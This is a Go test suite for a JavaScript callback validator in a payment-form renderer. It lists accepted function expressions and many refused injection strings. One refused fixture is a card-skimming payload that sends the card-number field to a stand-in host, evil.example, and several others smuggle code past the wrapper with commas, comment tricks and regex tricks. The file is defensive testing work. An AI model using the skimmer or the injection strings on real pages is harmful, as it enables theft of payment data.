package web

import (
	"errors"
	"strings"
	"testing"
)

// acceptedCallbacks are plain function expressions, some of them written to
// look like something else to a careless reader.
var acceptedCallbacks = []string{
	"function(responseData, requestData) {\nconst reference = responseData.reference;\nwindow.location.replace(`/update/success?reference=${reference}`);\n}",
	"function(a, b) { window.location.replace('/done?ref=' + a.reference); }",
	"function onSuccess(r) { return r.a / 2 / r.b; }",
	`(r, q) => { document.title = r.token.replace(/[^a-z]/g, ""); }`,
	"() => {}",
	"/* note */ function () {} // done",
	"\r\n\tfunction(r) {\r\n  return 1;\r\n}\r\n",
	"function(){ var s = '</script><img src=x>'; var t = \"</SCRIPT >\"; }",
	"function(r){ return `a ${ {x: 1}.x } b ${ `nested ${r + '}'}` }`; }",
	"function(a = 1, {b} = {}) { return (a + b) / 3 + [a][0] / 2; }",
	"function(){ a = b / 2 /* } ); evil(); ( function(){ */ }",
	"function(r){ if (r) { x = 1 } else { x = /}/.test(r) } }",
	"function(){ return /[/}]\\/)/g.source }",
	"function(){ return typeof /x/ }",
	"function(){ x = a ? /}/ : /)/ }",
	"function(){ x = 'a\\\r\nb' + \"\\\"}\" }",
	"function(){ y = this / 2; z = a.b.c / d; w = (x) / 2; v = \"é\" + `ü` /* ß */ }",
	"function(){ return a.if(x) / 2 + typeof (x) / 2 + f(x) / 2 }",
	"function (responseData) {\n  \"use strict\";\n  if (window.parent === window) return;\n  const data = responseData && responseData.data;\n" +
		"  const message = Object.assign({\"session_id\":\"s_1\",\"type\":\"cardvault:captured\"}, {token_id: data && typeof data.token_id === \"string\" ? data.token_id : \"\"});\n" +
		"  const origins = [\"https://shop.example\"];\n  for (const origin of (origins.length ? origins : [window.location.origin])) {\n" +
		"    try {\n      window.parent.postMessage(message, origin);\n    } catch (e) {\n      // An origin that cannot be reached does not stop the others.\n    }\n  }\n}",
}

// refusedCallbacks run, or could run, something when the page loads, or
// cannot be read with certainty by the check.
var refusedCallbacks = map[string]string{
	"the review's exploit": `(document.addEventListener("submit", function () {
  location.href = "https://evil.example/c?pan=" + document.getElementById("cv-card_number").value;
}, true), function () {})`,
	"comma after":                    "function(){}, evil()",
	"comma after, on a new line":     "function(){}\n, evil()",
	"second statement":               "function(){}\n;evil()",
	"called at once":                 "function(){}(evil())",
	"method called at once":          "function(){}.call()",
	"template tag":                   "function(){}`x`",
	"closes the wrapper":             "function(){}); evil(); (function(){}",
	"parenthesised":                  "(function(){})",
	"concise arrow":                  "(r) => r.token",
	"concise arrow with comma":       "(r) => 1, evil()",
	"arrow without parentheses":      "r => {}",
	"async function":                 "async function(){}",
	"async arrow":                    "async () => {}",
	"generator":                      "function*(){}",
	"two functions":                  "function f(){} function g(){}",
	"empty":                          "",
	"only a comment":                 "/* nothing */",
	"an object":                      "{}",
	"an expression":                  "evil()",
	"unbalanced":                     "function(){ }}",
	"unterminated string":            "function(){ 'x }",
	"unterminated comment":           "function(){ /* }",
	"unterminated template":          "function(){ `${ }",
	"unterminated regex":             "function(){ x = /abc }",
	"newline in a string":            "function(){ 'a\nb' }",
	"HTML close comment":             "function(){ x = 1\n--> }); evil(); (function(){\n}",
	"line separator in a comment":    "function(){ // c \u2028 }); evil(); (function(){\n}",
	"carriage return ends comments":  "function(){ // c \r }); evil(); (function(){\n}",
	"slash after a keyword's ( )":    "function(){ if (x) /}/.test(y) }",
	"slash after while's ( )":        "function(){ while (x) /}/.test(y) }",
	"slash after a block":            "function(){ {} /}/ }",
	"slash after a keyword property": "function(){ a.return /1}); evil(); (function(){ /g }",
	"slash after ++":                 "function(){ x++ /2 }",
	"slash after of":                 "function(){ for (x of /}/.exec(y)) {} }",
	"unicode escape in code":         `function(){ \u0061 = 1 }`,
	"non-ASCII in code":              "function(){ café = 1 }",
	"no-break space in code":         "function()\u00a0{}",
	"end tag in code":                "function(){ return a </b/ }",
	"HTML open comment":              "function(){ /* <!-- */ }",
	"script tag":                     "function(){ '<script>' }",
}

func TestCheckCallbackAccepts(t *testing.T) {
	for _, src := range acceptedCallbacks {
		if err := CheckCallback(src); err != nil {
			t.Errorf("refused %q: %v", src, err)
		}
	}
}

func TestCheckCallbackRefuses(t *testing.T) {
	for name, src := range refusedCallbacks {
		err := CheckCallback(src)
		if err == nil {
			t.Errorf("%s: accepted %q", name, src)
			continue
		}
		if strings.Contains(err.Error(), "evil") || strings.Contains(err.Error(), "cv-card_number") {
			t.Errorf("%s: the error quotes the script: %v", name, err)
		}
	}
	if err := CheckCallback("function(){}, x()"); !errors.Is(err, errNotAFunction) {
		t.Errorf("a comma after the function: %v", err)
	}
}

// TestRenderFormRefusesLoadTimeCode: the renderer checks again, so a form
// stored before the check existed is not served with its callback.
func TestRenderFormRefusesLoadTimeCode(t *testing.T) {
	for _, field := range []string{"success", "error"} {
		c := FormConfig{Nonce: fixedNonce, Fields: allFields(), SubmitURL: "/x"}
		if field == "success" {
			c.SuccessCallback = refusedCallbacks["the review's exploit"]
		} else {
			c.ErrorCallback = refusedCallbacks["the review's exploit"]
		}
		if _, _, err := renderForm(c); err == nil {
			t.Errorf("the %s callback was rendered", field)
		}
	}
}

// FuzzCheckCallback: whatever is accepted passes CheckScript, and stays
// refused when anything is run after it or around it.
func FuzzCheckCallback(f *testing.F) {
	for _, s := range acceptedCallbacks {
		f.Add(s)
	}
	for _, s := range refusedCallbacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if CheckCallback(src) != nil {
			return
		}
		if CheckScript(src) != nil {
			t.Fatalf("accepted what CheckScript refuses: %q", src)
		}
		for _, wrapped := range []string{src + "\n, x()", src + "\n(x())", src + "\n;x()", "(x(), " + src + "\n)", "x(), " + src} {
			if CheckCallback(wrapped) == nil {
				t.Fatalf("accepted %q", wrapped)
			}
		}
	})
}
